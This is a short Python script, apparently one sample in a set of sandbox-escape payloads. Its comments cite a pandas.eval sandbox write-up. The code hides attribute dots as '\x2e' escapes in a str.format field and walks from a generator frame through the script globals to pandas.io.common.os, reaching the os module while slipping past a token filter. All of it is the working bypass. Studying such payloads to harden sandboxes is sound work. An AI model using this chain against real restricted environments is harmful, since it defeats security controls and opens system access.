# source: known pandas sandbox escape path pd.io.common.os (Checkmarx "glass sandbox" pandas.eval write-up); adapted to str.format attribute reads
# family: format-field hidden by "\x2e" escape; chain through a generator frame to the script globals then pandas.io.common.os
# goal: pandas.io.common.os -> module os (forbidden attributes io/common/os never appear as tokens)
import pandas as pd
def gen():
    yield 1
g = gen()
print("{0\x2egi_frame\x2ef_globals[pd]\x2eio\x2ecommon\x2eos}".format(g))
